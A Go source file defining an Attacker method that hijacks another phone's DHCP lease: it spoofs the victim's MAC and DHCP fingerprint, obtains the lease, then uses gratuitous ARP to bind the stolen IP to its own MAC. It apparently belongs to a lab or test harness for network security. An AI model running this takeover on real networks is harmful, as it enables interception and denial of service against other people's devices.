package phone

import (
	"context"
	"errors"
	"fmt"
	"net"
	"time"
)

// steal gets the lease of the device tmac: it puts tmac on its interface
// and does the DHCP exchange as that phone would (option 60 and PRL), so
// the server binds the address to tmac. Then it puts its own MAC back and
// announces it by gratuitous ARP (arp_notify, in its own namespace), and
// waits until the server has answered an ARP request from its own MAC:
// from then on the server's kernel maps the stolen address to this host.
func (a *Attacker) steal(ctx context.Context, p *Profile, tmac net.HardwareAddr) (*Lease, error) {
	own := a.MAC
	if len(own) != 6 || own.String() == tmac.String() {
		return nil, fmt.Errorf("%s: needs a MAC of its own, not %s", a.Role, own)
	}
	if err := setMAC(a.Iface, tmac); err != nil {
		return nil, err
	}
	l, err := DORA(ctx, a.Iface, classOf(p), p.PRL, 4*a.timeout())
	if err != nil {
		return nil, fmt.Errorf("leasing as %s: %w", tmac, err)
	}
	if err := Configure(a.Iface, l); err != nil {
		return nil, err
	}
	if l.Server == nil || l.Server.IsUnspecified() {
		return nil, errors.New("the ACK names no server (option 54)")
	}
	if err := arpNotify(a.Iface); err != nil {
		return nil, fmt.Errorf("announcing: %w", err)
	}
	if err := setMAC(a.Iface, own); err != nil {
		return nil, err
	}
	a.log().Info("stole a lease", "mac", tmac.String(), "ip", l.IP.String())
	return l, waitNeighbour(ctx, l.Server, 5*time.Second)
}
